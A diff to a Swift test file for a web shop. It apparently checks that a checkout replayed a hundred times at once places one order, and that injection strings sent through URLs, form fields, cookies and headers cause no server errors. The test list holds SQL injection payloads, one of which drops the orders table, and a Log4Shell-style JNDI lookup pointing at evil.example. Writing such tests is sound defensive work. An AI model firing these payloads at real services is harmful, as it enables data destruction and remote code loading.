@@ -1,6 +1,7 @@
 import Foundation
 import Keruen
 import KeruenSQLite
+import NIOCore
 import ShopSite
 import Testing
 
@@ -60,65 +61,79 @@ extension Attacks {
 
         @Test("that is sent a hundred times at once places one order")
         func replayed() async throws {
-            let file = URL.temporaryDirectory.appending(path: "attack-\(Tokens.visit()).sqlite")
-            defer { for end in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: file.path + end) } }
-            try await TestShop.open(store: try SQLiteStore(path: file.path), limits: .uncounted) { browser, services in
-                let form = Form(services)
-                let sku = try #require(SKU("XJ-SLK-302-IND"))
+            let file = temporaryFile()
+            defer { remove(file) }
+            try await TestShop.open(
+                tokens: ShopOpening.tokens, keyring: try ShopOpening.keys(), store: try SQLiteStore(path: file.path),
+                now: { ShopOpening().now }
+            ) { browser, services in
+                let form = try await filledCheckout(browser)
+                let sku = try #require(SKU("RU-MTR-001-5"))
                 let warehouses = services.live.current.catalog.warehouses.map(\.id)
                 let before = try await services.store.available(sku, in: warehouses)
-                let cookies = "cart=K-REPLAY-1~\(sku).1"
                 let places = try await withThrowingTaskGroup(of: String?.self) { group in
                     for _ in 0..<100 {
                         group.addTask {
-                            try await form.post("/ru/ru/orders", "", cookies: cookies, to: browser.port).header(
-                                "location")
+                            let reply = try await Wire.ask(
+                                "POST", "/ru/ru/checkout", form.lines, body: form.body, to: browser.port,
+                                patience: .seconds(60))
+                            return reply.header("location")
                         }
                     }
                     return try await group.reduce(into: []) { $0.append($1) }
                 }
-                #expect(places.count == 100 && Set(places).count == 1 && places[0] != nil)
+                #expect(places.count == 100 && Set(places).count == 1 && places[0]?.contains("/orders/") == true)
                 #expect(try await services.store.available(sku, in: warehouses) == before - 1)
             }
         }
 
         @Test("can't speak to the store's database")
         func sql() async throws {
-            let file = URL.temporaryDirectory.appending(path: "attack-\(Tokens.visit()).sqlite")
-            defer { for end in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: file.path + end) } }
-            let store = try SQLiteStore(path: file.path)
+            let file = temporaryFile()
+            defer { remove(file) }
             let phrases = [
                 "' OR '1'='1", "'; DROP TABLE orders; --", "\" OR 1=1 --", "1; ATTACH DATABASE 'x' AS y",
-                "KR-0000' UNION SELECT 1,2,3 --",
-                "%' --", "\\'; --", "') OR ('1'='1", "‘ OR ‘1’=‘1", "\u{0}' OR 1=1", "x'41'",
+                "KR-0000' UNION SELECT 1,2,3 --", "%' --", "\\'; --", "‘ OR ‘1’=‘1", "x'41'",
                 "${jndi:ldap://evil.example/a}",
             ]
-            try await TestShop.open(store: store, limits: .uncounted) { browser, services in
-                let form = Form(services)
-                let placed = try await form.post(
-                    "/ru/ru/orders", "", cookies: "cart=K-SQL-1~XJ-SLK-302-IND.1", to: browser.port)
+            try await TestShop.open(
+                tokens: ShopOpening.tokens, keyring: try ShopOpening.keys(), store: try SQLiteStore(path: file.path),
+                now: { ShopOpening().now }
+            ) { browser, services in
+                let port = browser.port
+                let form = try await filledCheckout(browser)
+                let placed = try await Wire.ask("POST", "/ru/ru/checkout", form.lines, body: form.body, to: port)
                 let address = try #require(placed.header("location"))
+                let own = Form(services)
                 for phrase in phrases {
-                    let escaped = phrase.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
+                    let escaped = Buyer.encoded(phrase)
                     for target in [
                         "/ru/ru/orders/\(escaped)", "/ru/ru/p/\(escaped)", "/ru/ru/c/\(escaped)",
-                        "/api/v1/ru/ru/orders/\(escaped)",
+                        "/api/v1/ru/ru/orders/\(escaped)", "/api/v1/ru/ru/products/\(escaped)",
                     ] {
-                        let reply = try await Wire.ask("GET", target, to: browser.port)
+                        let reply = try await Wire.ask("GET", target, to: port)
                         #expect([400, 404].contains(reply.status), "\(target) \(reply.status)")
                     }
-                    let search = try await Wire.ask("GET", "/ru/ru/search?q=\(escaped)", to: browser.port)
-                    #expect(search.status < 500)
-                    for fields in ["sku=\(escaped)&quantity=1", "sku=XJ-SLK-302-IND&quantity=\(escaped)"] {
-                        #expect(try await form.post("/ru/ru/cart", fields, to: browser.port).status < 500)
+                    for target in [
+                        "/ru/ru/search?q=", "/ru/ru/orders?id=", "/ru/ru/orders?number=", "/ru/ru/suggest?q=",
+                    ] {
+                        let reply = try await Wire.ask("GET", target + escaped, to: port)
+                        #expect((200..<500).contains(reply.status), "\(target)\(escaped) \(reply.status)")
                     }
-                    let cookie = phrase.replacing("\u{0}", with: "")
-                    #expect(
-                        try await form.post(
-                            "/ru/ru/orders", "", cookies: "cart=\(cookie)~XJ-SLK-302-IND.1", to: browser.port
-                        ).status < 500)
+                    for fields in ["sku=\(escaped)&quantity=1", "sku=RU-MTR-001-5&quantity=\(escaped)"] {
+                        #expect((200..<500).contains(try await own.post("/ru/ru/cart", fields, to: port).status))
+                    }
+                    let forged = try await own.post(
+                        "/ru/ru/checkout", form.body, cookies: "cart=\(phrase.filter(\.isASCII))~RU-MTR-001-5.1",
+                        to: port)
+                    #expect((200..<500).contains(forged.status), "\(phrase) \(forged.status)")
+                    let keyed = try await Wire.ask(
+                        "POST", "/api/v1/ru/ru/orders",
+                        ["Idempotency-Key: \(phrase.filter(\.isASCII))", "Content-Type: application/json"],
+                        body: #"{"lines":[{"sku":"RU-MTR-001-5","quantity":1}]}"#, to: port)
+                    #expect((400..<500).contains(keyed.status), "\(phrase) \(keyed.status)")
                 }
-                #expect(try await Wire.ask("GET", address, to: browser.port).status == 200)
+                #expect(try await Wire.ask("GET", address, to: port).status == 200)
             }
         }
     }
